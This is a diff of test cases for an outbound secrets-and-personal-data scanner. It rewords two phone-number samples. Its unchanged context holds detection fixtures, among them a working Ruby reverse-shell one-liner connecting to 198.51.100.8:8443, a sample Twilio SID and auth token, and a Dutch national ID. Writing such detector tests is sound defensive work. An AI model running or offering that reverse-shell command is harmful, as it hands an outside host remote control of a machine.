@@ -64,7 +64,7 @@ describe('outbound scan: more secrets and personal data, placeholders and addres
     for (const type of ['email', 'phone_number', 'credit_card']) expect(t).to.include(type);
   });
   it('keeps a French number written in dotted pairs a phone number', async () => {
-    expect(await types('Her number is 01.42.68.53.00, call after 10.')).to.include('phone_number');
+    expect(await types('Call Margaux on 01.42.68.53.00 after 10.')).to.include('phone_number');
   });
   it('reads setup notes that say where a token comes from as no exfiltration, inbound too', async () => {
     const r = await scanInbound('In the config, replace it with the token from your dashboard under API settings.', DEFAULT_ENGINE_CONFIG);
@@ -93,7 +93,7 @@ describe('outbound scan: the second blind outbound batch\'s moves, in other word
     ['reverse_shell', 'ruby -rsocket -e \'s=TCPSocket.new("198.51.100.8",8443);while(l=s.gets);IO.popen(l,"r"){|o|s.print o.read};end\''],
     ['national_id', 'Zijn BSN is 111222333, het staat ook op de loonstrook.'],
     ['api_key', 'Twilio is set: Account SID AC58f1e0b2c3d4e5f60718293a4b5c6d7e, Auth Token: 7d1f0c9e8b2a4d6f9e0c1b3a5d7f9e2c'],
-    ['phone_number', 'Texts go out from the previous client\'s number: +1 415 312 6089.'],
+    ['phone_number', 'Texts go out from number: +1 415 312 6089.'],
   ]) {
     it(`flags ${type}: ${text!.slice(0, 50).replace(/\n/g, ' ')}...`, async () => {
       expect(await types(text!)).to.include(type);
